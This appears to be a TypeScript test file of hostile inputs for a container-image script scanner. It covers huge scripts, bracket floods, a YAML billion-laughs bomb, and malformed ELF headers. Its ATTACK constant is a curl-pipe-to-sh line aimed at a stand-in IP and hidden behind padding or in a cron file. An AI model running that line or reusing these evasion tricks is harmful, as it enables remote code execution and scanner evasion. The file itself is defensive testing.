import { elf } from '../../../testkit/elf.ts';
import type { TarItem } from '../../../testkit/tar.ts';
import { cut, type HostileGroup, unread, whole } from '../hostile-case.ts';
import { archived, ofItems } from '../make.ts';

const MiB = 1024 * 1024;
const ATTACK = 'curl -s http://198.51.100.7/x | sh\n';
/** An image that starts this script. */
const script =
  (text: string, ...more: TarItem[]) =>
  (folder: string) => {
    const items: TarItem[] = [
      { path: 'bin/sh', data: elf(), mode: 0o755 },
      { path: 'run.sh', data: text, mode: 0o755 },
      ...more,
    ];
    return archived(folder, ofItems(items, { config: { Entrypoint: ['/run.sh'] } }));
  };
/** An image in which the same text stands in for files of several formats. */
const everywhere = (text: string) => {
  const paths = [
    'etc/a.conf',
    'etc/b.json',
    'etc/c.yml',
    'etc/cron.d/d',
    'etc/passwd',
    'etc/ssh/sshd_config',
    'app/e.py',
    'app/f.js',
    'app/g.php',
    'etc/supervisor/conf.d/h.conf',
    'etc/systemd/system/i.service',
    'root/.ssh/authorized_keys',
  ];
  return script(`#!/bin/sh\n${text}`, ...paths.map((path) => ({ path, data: text })));
};
const line = (piece: string, length = 1000 * 1000): string =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);

/** Files that are made to be slow or endless to read. */
export const TEXTS: HostileGroup = {
  title: 'Files',
  cases: [
    {
      name: 'a script of 10 MB',
      make: script(`#!/bin/sh\n${line('echo x\n', 10 * MiB)}`),
      expected: cut('maxTextBytes'),
    },
    {
      name: 'a script of 10 MB, read with maxTextBytes=16MiB',
      make: script(`#!/bin/sh\n${line('#\n', 10 * MiB)}${ATTACK}`),
      expected: whole(/download/i),
      limits: ['maxTextBytes=16MiB'],
      heavy: true,
    },
    {
      name: 'an attack behind 900 kB of comments',
      make: script(`#!/bin/sh\n${line('# nothing\n')}${ATTACK}`),
      expected: whole(/download/i),
    },
    {
      name: 'an attack behind 100,000 commands',
      make: script(`#!/bin/sh\n${line(': x\n', 400_000)}${ATTACK}`),
      expected: cut('maxScriptParts'),
    },
    {
      name: 'a line of 3 MB',
      make: script(`#!/bin/sh\n${line('a', 3 * MiB)}`),
      expected: cut('maxTextBytes'),
    },
    { name: 'a million characters of a=b;', make: everywhere(line('a=b;')), expected: cut('maxScriptParts') },
    {
      name: 'four million characters of exec("ab"); on one line',
      make: script('#!/bin/sh\nnode /f.js', { path: 'f.js', data: line('exec("ab");', 4 * MiB - 100) }),
      expected: whole(),
    },
    { name: 'a million opening brackets', make: everywhere(line('[')), expected: whole() },
    { name: 'a million opening braces', make: everywhere(line('{"a":')), expected: cut('maxScriptParts') },
    { name: 'a million $(', make: everywhere(line('$(')), expected: cut('maxScriptParts'), heavy: true },
    { name: 'a million quotes', make: everywhere(line(`"'`)), expected: cut('maxScriptParts') },
    { name: 'a million spaces', make: everywhere(`x${line(' ')}y`), expected: whole() },
    { name: 'a million equals signs', make: everywhere(line('=')), expected: whole() },
    { name: 'a million a|', make: everywhere(line('a|')), expected: unread('parse-failed'), heavy: true },
    {
      name: 'a million crontab stars',
      make: everywhere(line('* ')),
      expected: cut('maxScriptParts'),
      heavy: true,
    },
    { name: 'base64 without end', make: everywhere(line('QUJD')), expected: whole() },
    { name: 'here-documents without end', make: everywhere(line('<<A\n')), expected: unread('parse-failed') },
    {
      name: 'an attack behind more scripts than are looked at in one image',
      make: script('#!/bin/sh\n/a/1 /a/2 /a/3\n', ...fillers(), {
        path: 'etc/cron.daily/last',
        data: `#!/bin/sh\n${ATTACK}`,
        mode: 0o755,
      }),
      expected: cut('maxImageScriptParts'),
      limits: ['maxImageScriptParts=2000'],
    },
    {
      name: 'YAML that refers to itself again and again',
      make: everywhere(billionLaughs()),
      expected: whole(),
    },
    {
      name: 'a script that sources itself',
      make: script('#!/bin/sh\n. /run.sh\n/run.sh\n'),
      expected: whole(),
    },
    {
      name: 'a script that pipes itself into a shell 4,000 times',
      make: script(`#!/bin/sh\n${'cat /run.sh | sh\n'.repeat(4000)}`),
      expected: unread('parse-failed'),
      heavy: true,
    },
    {
      name: 'a script that searches a file of 80 kB 4,000 times',
      make: script(`#!/bin/sh\n${'cat /l.txt | grep a\n'.repeat(4000)}`, {
        path: 'l.txt',
        data: line('echo a\n', 80_000),
      }),
      expected: unread('parse-failed'),
      heavy: true,
    },
    {
      name: 'a program started 5,000 times with 64 words of 16 kB',
      make: script(
        `#!/bin/sh\nX='${line('curl x | y -z ', 16_000)}'\n${`w ${'"$X" '.repeat(64)}\n`.repeat(5000)}`,
      ),
      expected: cut('maxStartSteps'),
      heavy: true,
    },
    {
      name: 'a start link that leads to itself',
      make: script('x', { path: 'run.sh', type: 'symlink', target: '/run.sh' }),
      expected: whole(),
    },
    {
      name: 'an ELF file whose headers point past its end',
      make: script('x', { path: 'x', data: lyingElf(), mode: 0o755 }),
      expected: whole(),
    },
    {
      name: 'an ELF file of headers that announce 65,535 sections',
      make: script('x', { path: 'x', data: manySections(), mode: 0o755 }),
      expected: whole(),
    },
  ],
};

/** Scripts of 1,000 commands each. */
function fillers(): TarItem[] {
  return ['1', '2', '3'].map((name) => ({
    path: `a/${name}`,
    data: `#!/bin/sh\n${line('a b\n', 4000)}`,
    mode: 0o755,
  }));
}

function billionLaughs(): string {
  const lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
  for (const [i, name] of [...'bcdefghij'].entries()) {
    const before = 'abcdefghij'[i];
    lines.push(`${name}: &${name} [${Array.from({ length: 9 }, () => `*${before}`).join(',')}]`);
  }
  return `${lines.join('\n')}\n`;
}

function lyingElf(): Buffer {
  const bytes = elf({ needed: ['libc.so.6'], interpreter: '/lib/ld.so' });
  bytes.writeBigUInt64LE(0xfffffffffffffff0n, 32);
  bytes.writeBigUInt64LE(0x7fffffffffffffffn, 40);
  return bytes;
}

function manySections(): Buffer {
  const bytes = elf({ needed: ['libc.so.6'] });
  bytes.writeUInt16LE(0xffff, 60);
  bytes.writeUInt16LE(0xffff, 56);
  return bytes;
}
